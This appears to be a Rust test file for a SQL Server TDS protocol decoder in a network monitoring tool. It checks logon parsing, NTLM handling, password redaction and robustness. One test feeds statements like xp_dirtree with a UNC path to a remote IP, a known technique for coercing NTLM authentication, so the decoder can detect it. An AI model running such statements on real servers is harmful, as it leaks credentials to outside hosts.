//! Whole logons.

use proptest::prelude::*;

use super::Decoder;
use crate::net::Direction::{self, ToClient, ToServer};
use crate::proto::testing::{self, vector};

type Connection = testing::Connection<Decoder>;

/// Packets of a message: type, status (1: last), length, SPID, number, window.
fn packets(kind: u8, message: &[u8], size: usize) -> Vec<u8> {
    let mut out = Vec::new();
    let count = message.chunks(size).count();
    for (n, data) in message.chunks(size).enumerate() {
        let length = u16::try_from(data.len() + 8).unwrap().to_be_bytes();
        let last = u8::from(n + 1 == count);
        out.extend([kind, last, length[0], length[1], 0, 0, 1, 0]);
        out.extend(data);
    }
    out
}

/// PRELOGIN: VERSION and ENCRYPTION.
fn prelogin(kind: u8, encryption: u8) -> Vec<u8> {
    let message = [
        0, 0, 11, 0, 6, // VERSION at 11, 6 bytes
        1, 0, 17, 0, 1,    // ENCRYPTION at 17, 1 byte
        0xff, // end
        16, 0, 0, 0, 0, 0, // version
        encryption,
    ];
    packets(kind, &message, 4096)
}

/// LOGIN7 with names, a password that must not be seen and a token.
fn login7(token: &[u8]) -> Vec<u8> {
    let mut fixed = vec![0_u8; 94];
    fixed[4..8].copy_from_slice(&0x7400_0004_u32.to_le_bytes()); // TDSVersion 7.4
    fixed[25] = if token.is_empty() { 0 } else { 0x80 }; // fIntSecurity
    let mut data = Vec::new();
    for (at, text) in [
        (36, "WS01"),
        (40, "sa"),
        (44, "hunter2"),
        (48, "tool"),
        (52, "sql01"),
        (60, "ODBC"),
        (68, "master"),
    ] {
        let offset = u16::try_from(94 + data.len()).unwrap();
        fixed[at..at + 2].copy_from_slice(&offset.to_le_bytes());
        fixed[at + 2] = u8::try_from(text.len()).unwrap();
        data.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    }
    let offset = u16::try_from(94 + data.len()).unwrap();
    fixed[78..80].copy_from_slice(&offset.to_le_bytes());
    fixed[80..82].copy_from_slice(&u16::try_from(token.len()).unwrap().to_le_bytes());
    data.extend(token);
    fixed.extend(data);
    let length = u32::try_from(fixed.len()).unwrap();
    fixed[..4].copy_from_slice(&length.to_le_bytes());
    fixed
}

fn reply_token(kind: u8, data: &[u8]) -> Vec<u8> {
    let mut out = vec![kind];
    out.extend(u16::try_from(data.len()).unwrap().to_le_bytes());
    out.extend(data);
    out
}

/// NTLM in clear; the logon in two packets.
fn logon(success: bool) -> Vec<(Direction, Vec<u8>)> {
    let answer = if success {
        let mut answer = reply_token(0xe3, &[1, 0, 0]); // ENVCHANGE
        answer.extend(reply_token(0xad, &[1; 20])); // LOGINACK
        answer
    } else {
        // ERROR 18456, then DONE.
        let mut answer = reply_token(0xaa, &[&18_456_u32.to_le_bytes()[..], &[1; 20]].concat());
        answer.extend([0xfd, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        answer
    };
    vec![
        (ToServer, prelogin(0x12, 2)),
        (ToClient, prelogin(0x04, 2)),
        (
            ToServer,
            packets(0x10, &login7(&vector("ntlmssp_type1_impacket").bytes), 100),
        ),
        (
            ToClient,
            packets(4, &reply_token(0xed, &vector("ntlmssp_type2").bytes), 4096),
        ),
        (ToServer, vector("tds_sspi_message_type3").bytes),
        (ToClient, packets(4, &answer, 4096)),
    ]
}

#[test]
fn a_logon_with_ntlm() {
    for (success, verdict) in [
        (true, "success: true, code: 0"),
        (false, "success: false, code: 18456"),
    ] {
        let mut c = Connection::default();
        for (way, bytes) in logon(success) {
            c.say(way, &bytes);
        }
        for (what, n) in [
            ("TdsLogin(", 1),
            ("host: \"WS01\"", 1),
            ("server: \"sql01\"", 1),
            ("integrated: Some(true)", 1),
            ("client_encryption: \"not_supported\"", 1),
            ("NtlmNegotiate(", 1),
            ("NtlmChallenge(", 1),
            ("user: \"alice\"", 1),
            ("AuthResult(", 1),
            (verdict, 1),
            ("hunter2", 0),
            ("Anomaly", 0),
        ] {
            assert_eq!(c.out.count(&[what]), n, "{what}: {:#?}", c.out.0);
        }
        assert_eq!(c.pipes[1].done, !success, "statements may follow");
    }
}

/// A batch behind ALL_HEADERS (MS-TDS 2.2.5.3).
fn batch(text: &str) -> Vec<u8> {
    let mut message = vec![22, 0, 0, 0, 18, 0, 0, 0, 2, 0];
    message.extend([0; 12]); // transaction descriptor and count
    message.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    message
}

#[test]
fn statements_that_name_a_path() {
    let mut all = logon(true);
    let rows = vec![0x81; 9000];
    all.extend([
        (ToServer, packets(1, &batch("SELECT 1"), 4088)),
        (ToClient, packets(4, &rows, 4088)),
        (
            ToServer,
            packets(1, &batch(r"EXEC master..xp_dirtree '\\10.0.0.66\x'"), 50),
        ),
        (ToClient, packets(4, &rows, 4088)),
        (ToServer, packets(3, &batch(r"xp_fileexist '\\l\y'"), 4088)),
        (ToServer, packets(1, &batch(r"xp_subdirs 'c:\'"), 4088)),
    ]);
    let run = |size: usize, way: Option<Direction>| {
        let mut c = Connection::default();
        c.shared.catalog = std::sync::Arc::new(crate::catalog::Catalog::builtin());
        for (to, bytes) in all.iter().filter(|(to, _)| way.is_none_or(|w| w == *to)) {
            for piece in bytes.chunks(size) {
                c.say(*to, piece);
            }
        }
        c.out
    };
    let whole = run(usize::MAX, None);
    for (says, n) in [
        (
            r#"operation: "xp_dirtree", version: "", transport: "tds""#,
            1,
        ),
        (r#"path: Some("\\\\10.0.0.66\\x")"#, 1),
        (r#"operation: "xp_fileexist""#, 1),
        (r#"path: Some("\\\\l\\y")"#, 1),
        (r#"operation: "xp_subdirs""#, 1),
        ("method: Some(", 2),
        ("Anomaly", 0),
    ] {
        assert_eq!(whole.count(&[says]), n, "{says}: {:#?}", whole.0);
    }
    for size in [1, 7, 100] {
        assert_eq!(run(size, None), whole, "{size}");
    }
    assert_eq!(run(usize::MAX, Some(ToServer)).count(&["RpcCall("]), 3);
    assert_eq!(run(usize::MAX, Some(ToClient)).count(&["RpcCall("]), 0);
}

#[test]
fn a_long_statement_and_a_gap() {
    let mut c = Connection::default();
    c.shared.catalog = std::sync::Arc::new(crate::catalog::Catalog::builtin());
    for (way, bytes) in logon(true) {
        c.say(way, &bytes);
    }
    let long = format!(r"xp_dirtree '\\l\x' -- {}", "-".repeat(100_000));
    c.say(ToServer, &packets(1, &batch(&long), 4088));
    assert_eq!(c.out.count(&["RpcCall("]), 1);
    assert!(c.decoder.held() < 100_000, "{}", c.decoder.held());
    c.lose(ToServer, 999);
    c.say(ToServer, &packets(1, &batch(r"xp_dirtree '\\l\y'"), 4088));
    assert_eq!(c.out.count(&["RpcCall("]), 2, "{:#?}", c.out.0);
}

#[test]
fn a_logon_of_sql_server_itself() {
    let mut c = Connection::default();
    c.say(ToServer, &packets(0x10, &login7(b""), 4096));
    assert_eq!(c.out.count(&["user: \"sa\"", "integrated: Some(false)"]), 1);
    assert_eq!(c.out.count(&["hunter2"]), 0);
}

#[test]
fn either_direction_alone() {
    for (lost, seen) in [
        (ToServer, "NtlmChallenge("),
        (ToClient, "NtlmAuthenticate("),
    ] {
        let mut c = Connection::default();
        for (way, bytes) in logon(true) {
            if way == lost {
                c.lose(way, bytes.len() as u64);
            } else {
                c.say(way, &bytes);
            }
        }
        assert_eq!(c.out.count(&[seen]), 1, "{:#?}", c.out.0);
    }
}

#[test]
fn what_is_in_tls_is_said() {
    // A record of application data where the logon would be.
    let record = [0x17, 3, 3, 0, 4, 1, 2, 3, 4];
    let mut c = Connection::default();
    c.say(ToServer, &prelogin(0x12, 1))
        .say(ToClient, &prelogin(0x04, 1))
        .say(ToServer, &record);
    assert_eq!(
        c.out
            .count(&["hidden: Some(true)", "server_encryption: \"on\""]),
        1
    );
    assert!(c.pipes[0].done);
    // Encrypted for the logon alone: the rest of NTLM is in clear.
    let mut c = Connection::default();
    c.say(ToServer, &prelogin(0x12, 0))
        .say(ToClient, &prelogin(0x04, 0))
        .say(ToServer, &record)
        .say(
            ToClient,
            &packets(4, &reply_token(0xed, &vector("ntlmssp_type2").bytes), 4096),
        )
        .say(ToServer, &vector("tds_sspi_message_type3").bytes);
    assert_eq!(
        c.out.count(&["NtlmAuthenticate(", "alice"]),
        1,
        "{:#?}",
        c.out.0
    );
}

#[test]
fn rubbish_and_the_endless() {
    let mut c = Connection::default();
    c.say(ToServer, b"\xffhello, this is no packet");
    assert!(c.pipes[0].done);
    let mut c = Connection::default();
    for _ in 0..100 {
        let mut piece = packets(0x10, &[0; 4000], 4096);
        piece[1] = 0; // never the last
        c.say(ToServer, &piece);
    }
    assert!(c.decoder.held() < 100_000, "{}", c.decoder.held());
}

#[test]
fn every_cut() {
    let all = logon(true);
    let run = |cut: (usize, usize)| {
        let mut c = Connection::default();
        for (i, (way, bytes)) in all.iter().enumerate() {
            let (a, b) = bytes.split_at(if i == cut.0 { cut.1 } else { 0 });
            c.say(*way, a).say(*way, b);
        }
        c.out
    };
    let whole = run((0, 0));
    for (i, (_, bytes)) in all.iter().enumerate() {
        for at in 1..bytes.len() {
            assert_eq!(run((i, at)), whole, "message {i} cut at {at}");
        }
    }
}

proptest! {
    #[test]
    fn damage_does_no_harm(
        flips in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>()), 1..10),
    ) {
        let mut c = Connection::default();
        for (way, mut bytes) in logon(true) {
            for (at, b) in &flips {
                *at.get_mut(&mut bytes) = *b;
            }
            c.say(way, &bytes);
        }
    }
}
